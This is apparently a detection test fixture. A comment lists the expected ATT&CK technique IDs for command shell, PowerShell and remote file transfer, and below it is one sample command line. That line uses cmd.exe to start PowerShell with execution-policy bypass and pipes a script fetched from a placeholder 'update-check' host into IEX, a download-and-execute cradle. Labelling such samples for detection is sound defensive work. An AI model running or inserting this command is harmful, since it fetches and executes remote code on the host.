# expect: T1059.003 T1059.001 T1105
cmd.exe /c 'powershell -exec bypass -c IEX(Invoke-RestMethod http://update-check.example.org/s.ps1)'
